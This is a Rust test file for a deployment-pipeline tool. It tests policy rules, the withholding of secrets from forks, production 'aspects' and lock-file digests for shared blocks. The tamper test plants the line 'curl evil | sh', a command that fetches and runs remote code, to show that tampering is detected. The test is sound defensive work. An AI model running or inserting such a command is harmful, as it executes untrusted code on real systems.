//! What the owner of a server demands: policy and aspects. And what a repository locks.

#![expect(clippy::unwrap_used, reason = "a test says what is wrong by failing")]

use std::collections::BTreeMap;

use pipelines::dynamic::{Joining, compile_fragment};
use pipelines::lock::{Lock, LockError, Locked, SharedName, digest_of};
use pipelines::plan::{NodeIx, NodeKind, Plan};
use pipelines::policy::{Kind, Policy, Subject};
use pipelines::{Aspect, Blocks, Diagnostic, Environment, ExpandInput, SourceFile, compile_in, expand, names_files, names_shared, show};

fn environment() -> Environment {
    Environment { splices: true, ..Environment::of_blocks(&Blocks::built_in()) }
}

fn rendered(source: &SourceFile, diagnostics: &[Diagnostic]) -> String {
    diagnostics.iter().map(|diagnostic| diagnostic.render(source)).collect()
}

fn plan(text: &str, environment: &Environment) -> Result<Plan, String> {
    plan_with(text, BTreeMap::new(), environment)
}

fn plan_with(text: &str, files: BTreeMap<String, String>, environment: &Environment) -> Result<Plan, String> {
    let source = SourceFile::new("pipeline.yaml", text).with_files(files);
    let (pipeline, diagnostics) = compile_in(&source, environment);
    let pipeline = pipeline.ok_or_else(|| rendered(&source, &diagnostics))?;
    Ok(expand(&pipeline, &ExpandInput::default()).unwrap())
}

fn node(plan: &Plan, key: &str) -> NodeIx {
    let at = plan.nodes.iter().position(|node| node.key == key).ok_or_else(|| format!("no node {key}")).unwrap();
    NodeIx(u32::try_from(at).unwrap())
}

const POLICY: &str = "
default: deny
rules:
  - {name: orders, pipelines: [orders], branches: [main], allow: {accounts: ['222*'], roles: [deploy]}}
  - {name: no-production, deny: {accounts: ['222222222222'], secrets: [PROD_*]}}
  - {name: everybody, allow: {accounts: ['*'], roles: ['*'], pools: [default], lanes: ['*'], blocks: [shell/*], secrets: ['*']}}
";

fn policy() -> Policy {
    let (policy, diagnostics) = Policy::read("policy.yaml", POLICY);
    policy.ok_or(diagnostics).unwrap()
}

fn subject(pipeline: &str) -> Subject {
    Subject { repository: "https://github.com/acme/orders".to_owned(), branch: "main".to_owned(), pipeline: pipeline.to_owned() }
}

fn under_policy(pipeline: &str) -> Environment {
    Environment { policy: Some((policy(), subject(pipeline))), ..environment() }
}

#[test]
fn the_first_rule_that_speaks_of_a_thing_decides() {
    let policy = policy();
    let check = |pipeline: &str, kind, value: &str| policy.check(&subject(pipeline), kind, value).map_err(|refusal| refusal.to_string());
    assert_eq!(check("orders", Kind::Account, "222222222222"), Ok(()));
    assert_eq!(
        check("other", Kind::Account, "222222222222"),
        Err("the policy does not allow the account `222222222222`: rule `no-production`".to_owned())
    );
    assert_eq!(check("other", Kind::Account, "333"), Ok(()));
    assert_eq!(check("orders", Kind::Pool, "gpu"), Err("the policy does not allow the pool `gpu`: no rule does".to_owned()));
    let elsewhere = Subject { branch: "hack".to_owned(), ..subject("orders") };
    assert!(policy.check(&elsewhere, Kind::Account, "222222222222").is_err(), "the rule is for the branch main alone");
}

#[test]
fn a_file_that_touches_what_it_may_not_is_refused_where_it_says_so() {
    let text = "name: other\naccounts: {harmless: {id: '222222222222', role: deploy}}\nstages:\n  - name: build\n    runs_on: gpu\n    jobs: [{steps: ['echo ${{ secrets.PROD_KEY }}', {uses: process/in-place}]}]\n";
    insta::assert_snapshot!(plan(text, &under_policy("other")).unwrap_err(), @r#"
    error[not_allowed]: the policy does not allow the account `222222222222`: rule `no-production`
     --> pipeline.yaml:2:27
      |
    2 | accounts: {harmless: {id: '222222222222', role: deploy}}
      |                           ^^^^^^^^^^^^^^
      = help: ask the owner of the server for a rule that allows it
    error[not_allowed]: the policy does not allow the pool `gpu`: no rule does
     --> pipeline.yaml:5:14
      |
    5 |     runs_on: gpu
      |              ^^^
      = help: ask the owner of the server for a rule that allows it
    error[not_allowed]: the policy does not allow the secret `PROD_KEY`: rule `no-production`
     --> pipeline.yaml:6:27
      |
    6 |     jobs: [{steps: ['echo ${{ secrets.PROD_KEY }}', {uses: process/in-place}]}]
      |                           ^^^^^^^^^^^^^^^^^^^^^^^
      = help: ask the owner of the server for a rule that allows it
    error[missing_input]: the block `process/in-place` needs the input `artifact`
     --> pipeline.yaml:6:60
      |
    6 |     jobs: [{steps: ['echo ${{ secrets.PROD_KEY }}', {uses: process/in-place}]}]
      |                                                            ^^^^^^^^^^^^^^^^
      = help: add it under `with`: {artifact: …}
    error[not_allowed]: the policy does not allow the block `process/in-place`: no rule does
     --> pipeline.yaml:6:60
      |
    6 |     jobs: [{steps: ['echo ${{ secrets.PROD_KEY }}', {uses: process/in-place}]}]
      |                                                            ^^^^^^^^^^^^^^^^
      = help: ask the owner of the server for a rule that allows it
    "#);
    assert!(plan(&text.replace("runs_on: gpu", "production: false"), &environment()).unwrap_err().contains("needs the input"));
}

#[test]
fn a_fragment_may_not_touch_more_than_the_file() {
    let text =
        "name: other\naccounts: {dev: {id: '333', role: x}}\nstages: [{name: build, generate: {run: x}}]".replace("'333'", "'33333'");
    let plan = plan(&text, &under_policy("other")).unwrap();
    let fragment =
        "jobs: [{name: a, runs_on: gpu, steps: [x]}]\nstages: [{name: s, targets: [dev/eu], deploy: {uses: shell/run, with: {run: x}}}]";
    let source = SourceFile::new("printed", fragment);
    let (found, diagnostics) =
        compile_fragment(&source, &Joining { plan: &plan, by: node(&plan, "build/generate") }, &under_policy("other"));
    let text = rendered(&source, &diagnostics);
    assert!(found.is_none() && text.contains("the policy does not allow the pool `gpu`: no rule does"), "{text}");
    assert_eq!(diagnostics.len(), 1, "{text}");
}

#[test]
fn d6_what_a_fork_uploads_gets_no_secrets_and_no_identity() {
    let text = "name: x\naccounts: {dev: {id: '33333', role: x}}\nstages: [{name: build, generate: {run: x}}]";
    let plan = plan(text, &environment()).unwrap();
    let compile = |text: &str, is_untrusted| {
        let source = SourceFile::new("printed", text);
        let environment = Environment { is_untrusted, ..environment() };
        let (_, diagnostics) = compile_fragment(&source, &Joining { plan: &plan, by: node(&plan, "build/generate") }, &environment);
        rendered(&source, &diagnostics)
    };
    let secret = "jobs: [{name: a, steps: ['echo ${{ secrets.TOKEN }}']}]";
    let identity = "stages: [{name: s, targets: [dev/eu], deploy: {uses: shell/run, with: {run: x}}}]";
    assert!(compile(secret, true).contains("`secrets.TOKEN` is not given to what comes from a fork (D6)"));
    assert!(compile(identity, true).contains("the account `dev` is not given to what comes from a fork (D6)"));
    assert_eq!((compile(secret, false), compile(identity, false)), (String::new(), String::new()));
    assert_eq!(compile("jobs: [{name: a, steps: [make]}]", true), "");
}

#[test]
fn a_policy_that_changed_is_asked_again_when_a_job_is_leased() {
    let text = "name: orders\naccounts: {prod: {id: '222222222222', role: deploy}}\nstages: [{name: prod, targets: [prod/eu], deploy: {uses: shell/run, with: {run: x}}}]";
    let plan = plan(text, &under_policy("orders")).unwrap();
    assert_eq!(policy().review(&subject("orders"), &plan), []);
    let (changed, _) = Policy::read("policy.yaml", &POLICY.replace("pipelines: [orders]", "pipelines: [former]"));
    let changed = changed.unwrap();
    let job = plan.node(node(&plan, "prod/prod/eu/deploy")).unwrap();
    assert_eq!(policy().review_job(&subject("orders"), &plan, job), Ok(()));
    let refusal = changed.review_job(&subject("orders"), &plan, job).unwrap_err();
    assert_eq!((refusal.kind, refusal.rule.as_deref()), (Kind::Account, Some("no-production")));
    assert_eq!(changed.review(&subject("orders"), &plan).len(), 1);
}

#[test]
fn a_policy_with_mistakes_says_each_of_them() {
    let text = "default: maybe\nrules:\n  - {name: a, allow: {acounts: [x]}}\n  - {name: a, allow: {pools: [x]}, deny: {pools: [y]}}\n";
    let (policy, diagnostics) = Policy::read("policy.yaml", text);
    assert!(policy.is_none());
    let codes: Vec<&str> = diagnostics.iter().map(|diagnostic| diagnostic.code.as_str()).collect();
    assert_eq!(codes, ["unknown_value", "unknown_key"]);
    let text = "default: allow\nrules:\n  - {name: a, allow: {pools: [x]}}\n  - {name: a, allow: {pools: [x]}, deny: {pools: [y]}}\n";
    let (_, diagnostics) = Policy::read("policy.yaml", text);
    let codes: Vec<&str> = diagnostics.iter().map(|diagnostic| diagnostic.code.as_str()).collect();
    assert_eq!(codes, ["conflicting_keys", "duplicate_name"], "in the order of their places");
}

const ASPECT: &str = "
name: guard
description: no production stage without it
where: stage.production && pipeline.name != 'sandbox'
gates: [{window: {deny: 'FRI 12:00-24:00'}}, {approval: {from: [security]}}]
alarms: [{name: budget, prometheus: 'error_budget_left < 0'}]
before: [./audit-log]
after: [./audit-log done]
";

const PRODUCTION: &str = "
name: orders
stages:
  - {name: beta, targets: [b], deploy: {uses: shell/run, with: {run: x}}}
  - {name: prod, production: true, bake: 5m, gates: [{approval: true}], before: [./own], targets: [a], deploy: {uses: shell/run, with: {run: x}}}
";

fn aspect(text: &str) -> Aspect {
    let (aspect, diagnostics) = Aspect::read("aspects/guard.yaml", text);
    aspect.ok_or(diagnostics).unwrap()
}

#[test]
fn an_aspect_is_added_where_it_fits_and_every_plan_says_so() {
    let environment = Environment { aspects: vec![aspect(ASPECT)], ..environment() };
    let plan = plan(PRODUCTION, &environment).unwrap();
    insta::assert_snapshot!(show::text(&plan), @r#"
    pipeline orders
      starts on a push to main
      made of shell/run

    stage beta
      rollback: the wave, by itself on an alarm or a failed job, up to 20m after the stage; newer releases go on
      lane beta: one release at a time, the newest ready one
      target b
        deploy: 1 step, touches the target, at most 1h

    stage prod (production)
      gate guard.window: never during FRI 12:00-24:00 (UTC)
      gate guard.approval: 1 person of security, not one's own release, asked again after 7d
      gate approval: 1 person who may approve, not one's own release, asked again after 7d
      rollback: the wave, by itself on an alarm or a failed job, up to 20m after the stage; newer releases go on
      the server adds guard.*: no production stage without it
      lane prod: one release at a time, the newest ready one
      alarm guard.budget: Prometheus `error_budget_left` < 0, read every 15s
      before guard.before: 1 step, at most 1h
      before: 1 step, at most 1h, after guard.before
      after guard.after: 1 step, at most 1h
      target a
        deploy: 1 step, touches the target, at most 1h
        bake 5m, watching guard.budget
    "#);
    assert_eq!(plan.aspects["guard"].stages, ["prod"]);
    let sandbox = plan_with(&PRODUCTION.replace("name: orders", "name: sandbox"), BTreeMap::new(), &environment).unwrap();
    assert!(sandbox.aspects.is_empty());
}

#[test]
fn a_file_cannot_take_an_aspect_away_or_its_names() {
    let environment = Environment { aspects: vec![aspect(ASPECT)], ..environment() };
    // A gate of the same name does not take the place of the owner's.
    let text = PRODUCTION.replace("gates: [{approval: true}]", "gates: [{name: guard.window, check: mine}]");
    let plan = plan(&text, &environment);
    let gates = |plan: &Plan| plan.nodes.iter().filter(|node| matches!(node.kind, NodeKind::Gate(_))).count();
    match plan {
        Ok(plan) => assert_eq!(gates(&plan), 3),
        Err(text) => assert!(text.contains("guard.window"), "{text}"),
    }
}

#[test]
fn a_wrong_aspect_is_refused_when_it_is_read() {
    let gate = "name: a\ndescription: x\ngates: [{approval: true}]";
    for (wrong, code, at) in [
        ("name: a.b\ndescription: x\ngates: [{approval: true}]".to_owned(), "bad_name", (1, 7)),
        ("name: a\ndescription: x".to_owned(), "missing_key", (1, 7)),
        (format!("{gate}\nwhere: stge.production"), "unknown_name", (4, 8)),
        (format!("{gate}\nwhere: stage.prodction"), "unknown_name", (4, 8)),
        (format!("{gate}\nwhere: stage"), "unknown_name", (4, 8)),
        (format!("{gate}\nwhere: stage.name"), "bad_expression", (4, 8)),
        (format!("{gate}\nwhere: stage.name > 3"), "bad_expression", (4, 8)),
        (format!("{gate}\nwhere: '=='"), "bad_expression", (4, 8)),
        // What it adds is tried on a stage, before any pipeline is compiled with it.
        ("name: a\ndescription: x\nwhere: stage.production\ngates: [{approval: {count: 99}}]".to_owned(), "out_of_range", (4, 28)),
        ("name: a\ndescription: x\nalarms: [{prometheus: x, every: 5s}]".to_owned(), "bad_format", (3, 23)),
    ] {
        let (aspect, diagnostics) = Aspect::read("aspects/guard.yaml", &wrong);
        assert!(aspect.is_none(), "{wrong}");
        let found: Vec<_> = diagnostics.iter().map(|finding| (finding.code.as_str(), (finding.place.line, finding.place.column))).collect();
        assert_eq!(found, [(code, at)], "{wrong}: {diagnostics:#?}");
        assert!(diagnostics.iter().all(|finding| finding.file == "aspects/guard.yaml"));
    }
    for right in ["pipeline.name.startsWith('pay')", "stage.deploys && stage.name in ['prod', 'live']", "!stage.production"] {
        let (aspect, diagnostics) = Aspect::read("a.yaml", &format!("{gate}\nwhere: \"{right}\""));
        assert!(aspect.is_some(), "{right}: {diagnostics:#?}");
    }
}

const CACHE: &str = "git::https://git.example/platform/blocks//cache@v3";

fn cache() -> BTreeMap<String, String> {
    let block = "description: a cache\ninputs: {size: {type: string, required: true, description: how large}}\nverbs: {shift: ['./cache ${{ inputs.size }}']}\n";
    BTreeMap::from([("block.yaml".to_owned(), block.to_owned()), ("cache".to_owned(), "#!/bin/sh\n".to_owned())])
}

fn uses_cache() -> String {
    format!("name: x\nstages: [{{name: live, targets: [a], deploy: {{uses: '{CACHE}', with: {{size: small}}}}}}]")
}

fn locked(folder: &BTreeMap<String, String>) -> BTreeMap<String, String> {
    let mut lock = Lock::default();
    lock.add(&SharedName::parse(CACHE).unwrap(), &"1f".repeat(20), folder);
    BTreeMap::from([(".tidegate/lock.yaml".to_owned(), lock.text())])
}

#[test]
fn a_shared_block_is_used_as_it_was_locked() {
    let environment = Environment { fetched: BTreeMap::from([(CACHE.to_owned(), cache())]), ..environment() };
    let plan = plan_with(&uses_cache(), locked(&cache()), &environment).unwrap();
    assert_eq!(plan.blocks.keys().collect::<Vec<_>>(), [CACHE]);
    let NodeKind::Job(job) = &plan.node(plan.stages[0].waves[0].rollouts[0].deployed).unwrap().kind else { return };
    assert_eq!(job.steps[0].run, "./cache small");
    assert!(job.steps[0].files.keys().any(|path| path.ends_with("/cache")));
    assert_eq!(names_shared(&uses_cache()), [CACHE]);
    assert_eq!(names_files(&uses_cache()), [".tidegate/lock.yaml"]);
}

#[test]
fn tampered_content_is_refused_by_its_digest() {
    let mut tampered = cache();
    tampered.insert("cache".to_owned(), "curl evil | sh".to_owned());
    let environment = Environment { fetched: BTreeMap::from([(CACHE.to_owned(), tampered)]), ..environment() };
    let error = plan_with(&uses_cache(), locked(&cache()), &environment).unwrap_err();
    assert!(error.starts_with("error[tampered]") && error.contains("is not what was locked"), "{error}");
}

#[test]
fn what_is_not_locked_or_not_fetched_or_no_name_is_an_error() {
    let fetched = Environment { fetched: BTreeMap::from([(CACHE.to_owned(), cache())]), ..environment() };
    let error = |files, environment: &Environment| plan_with(&uses_cache(), files, environment).unwrap_err();
    assert!(error(BTreeMap::new(), &fetched).starts_with("error[not_locked]"));
    assert!(error(locked(&cache()), &environment()).starts_with("error[missing_file]"));
    let broken = BTreeMap::from([(".tidegate/lock.yaml".to_owned(), "version: 1\nblocks: {x: {commit: y, digest: z}}\n".to_owned())]);
    assert!(error(broken, &fetched).contains(".tidegate/lock.yaml:2:10"));
    for wrong in [
        "git::",
        "git::https://host/x",
        "git::http://host/x@v1",
        "git::https://host/x//../y@v1",
        "git::https://h/x@-v",
        "git::https://h/x y@v1",
    ] {
        assert!(SharedName::parse(wrong).is_err(), "{wrong}");
        let text = uses_cache().replace(CACHE, wrong);
        assert!(plan_with(&text, BTreeMap::new(), &fetched).unwrap_err().starts_with("error[bad_format]"), "{wrong}");
    }
}

#[test]
fn a_lock_file_reads_back_as_it_was_written_and_knows_what_is_newer() {
    let mut lock = Lock::default();
    let name = |text: &str| SharedName::parse(text).unwrap();
    lock.add(&name(CACHE), &"1f".repeat(20), &cache());
    lock.add(&name("git::ssh://host/shapes@v1.2.0"), &"2e".repeat(20), &BTreeMap::new());
    assert_eq!(Lock::read(&lock.text()), (Some(lock.clone()), vec![]));
    assert_eq!(Lock::read(&Lock::default().text()), (Some(Lock::default()), vec![]));
    // Another version takes the place of the one before.
    lock.add(&name("git::https://git.example/platform/blocks//cache@v4"), &"3d".repeat(20), &cache());
    assert_eq!(lock.entries.len(), 2);
    let tags = BTreeMap::from([
        ("git::https://git.example/platform/blocks//cache".to_owned(), vec!["v4".to_owned(), "v10".to_owned(), "latest".to_owned()]),
        ("git::ssh://host/shapes".to_owned(), vec!["v1.1.9".to_owned()]),
    ]);
    let outdated: Vec<String> = lock.outdated(&tags).into_iter().map(|(name, newest)| format!("{name} -> {newest}")).collect();
    assert_eq!(outdated, ["git::https://git.example/platform/blocks//cache@v4 -> v10"]);
    let entry = Locked { commit: String::new(), digest: digest_of(&cache()) };
    let lock = Lock { entries: BTreeMap::from([(CACHE.to_owned(), entry)]) };
    let fetched = BTreeMap::from([(CACHE.to_owned(), BTreeMap::new())]);
    assert!(matches!(lock.resolve(CACHE, &fetched), Err(LockError::Tampered { .. })));
}
